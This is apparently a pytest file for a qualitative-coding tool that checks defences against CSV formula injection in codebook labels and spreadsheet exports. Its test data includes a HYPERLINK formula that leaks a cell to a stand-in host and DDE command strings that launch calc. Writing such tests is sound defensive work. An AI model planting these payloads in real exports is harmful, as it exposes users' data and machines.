"""CSV formula injection (issue 13 fault 8): a codebook label that a spreadsheet would run as a
formula is refused at validation, naming file:line:col; the exports meant for spreadsheet
tools neutralise cells that start with a formula character; the data tables keep their text
exactly (the span contract)."""
from __future__ import annotations

import csv
import io
import json

import pytest

from qualtrace.coding.codebook import CodebookError, parse_codebook
from qualtrace.exchange.codebook_formats import taguette_csv
from qualtrace.common.io import csv_text, spreadsheet_cell

from test_codebook import BASE, line_of

FORMULA_STARTS = ["=", "+", "-", "@"]
PAYLOADS = {"=": '=HYPERLINK("http://x.example/?"&A1,"Click")', "+": "+1+cmd|' /C calc'!A0",
            "-": "-2+3", "@": "@SUM(A1:A9)"}
LABELS = {"theme": ("label: Resources", "theme 'resourcing'"),
          "facet": ("label: Stakeholder", "facet 'stakeholder'"),
          "value": ("label: Clients", "value 'client'")}


@pytest.mark.parametrize("where", list(LABELS))
@pytest.mark.parametrize("char", FORMULA_STARTS)
@pytest.mark.parametrize("terms", [True, False], ids=["full", "structure-only"])
def test_a_formula_label_is_refused_naming_its_line(where, char, terms):
    line, owner = LABELS[where]
    value = json.dumps(PAYLOADS[char])  # a JSON string is a YAML double-quoted scalar
    text = BASE.replace(line, f"label: {value}")
    with pytest.raises(CodebookError) as info:
        parse_codebook(text, "config/codebook.yaml", terms=terms)
    message = str(info.value)
    number = line_of(text, value)
    column = text.splitlines()[number - 1].index(value) + 1
    assert message.startswith(f"config/codebook.yaml:{number}:{column}: {owner} "), message
    assert f"starts with {char!r}" in message and "formula" in message


def test_leading_space_does_not_hide_a_formula():
    text = BASE.replace("label: Clients", 'label: " \\t=1+1"')
    with pytest.raises(CodebookError, match=r"config/codebook.yaml:\d+:\d+: value 'client' "):
        parse_codebook(text, "config/codebook.yaml")


def test_ordinary_labels_stay_valid():
    text = BASE.replace("label: Clients", "label: Clients (+ carers) - all @ home")
    parse_codebook(text, "config/codebook.yaml")


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+A1", "'+A1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), (" =1", "' =1"),
    ("-12", "-12"), ("-0.5", "-0.5"), ("+3e5", "+3e5"),  # numbers are data, not formulas
    ("Care = control", "Care = control"), ("", ""), ("plain", "plain")])
def test_spreadsheet_cell(value, expected):
    assert spreadsheet_cell(value) == expected


def test_taguette_export_neutralises_formula_cells():
    """Definitions are free text (they may start with '-' or '='): the Taguette CSV, which
    people also open in a spreadsheet, gets them neutralised; labels cannot start so."""
    text = (BASE.replace("definition: Funding and staffing.", 'definition: "=1+1 funding"')
                .replace("definition: People using services.", 'definition: "- people"'))
    rows = list(csv.DictReader(io.StringIO(taguette_csv(parse_codebook(text, terms=False)))))
    described = {row["tag"]: row["description"] for row in rows}
    assert described["Resources"] == "'=1+1 funding"
    assert described["Stakeholder: Clients"] == "'- people"
    assert all(spreadsheet_cell(v) == v for row in rows for v in row.values())


def test_data_tables_keep_source_text_exactly():
    """csv_text (every data table) writes text as it is: a segment that starts with '='
    in the source starts with '=' in segments.csv, so raw[start:end] == text holds."""
    table = csv_text(["text"], [{"text": "=SUM(A1) said a client"}])
    assert next(csv.DictReader(io.StringIO(table)))["text"] == "=SUM(A1) said a client"


def test_report_numbers_labels_are_neutralised(tmp_path, monkeypatch):
    """report_numbers.csv labels are made from document titles and speaker groups (source
    text); reviewers open the file in spreadsheets."""
    from qualtrace.report import document

    rows = [{"item_id": "doc-x-segments", "section": "Overview", "label": "=cmd|' /C calc'!A0: "
             "segments", "value": "-3", "query": "segments", "segment_ids": "x-0001"},
            {"item_id": "plain", "section": "Overview", "label": "Clients: quotations",
             "value": "2", "query": "q", "segment_ids": ""}]
    monkeypatch.setattr(document, "build", lambda data, context: ("text", "evidence", rows))
    numbers = tmp_path / "report_numbers.csv"
    document.write(None, None, tmp_path / "summary.qmd", numbers, tmp_path / "evidence.qmd")
    written = list(csv.DictReader(io.StringIO(numbers.read_text(encoding="utf-8"))))
    assert [r["label"] for r in written] == ["'=cmd|' /C calc'!A0: segments",
                                             "Clients: quotations"]
    assert written[0]["value"] == "-3"
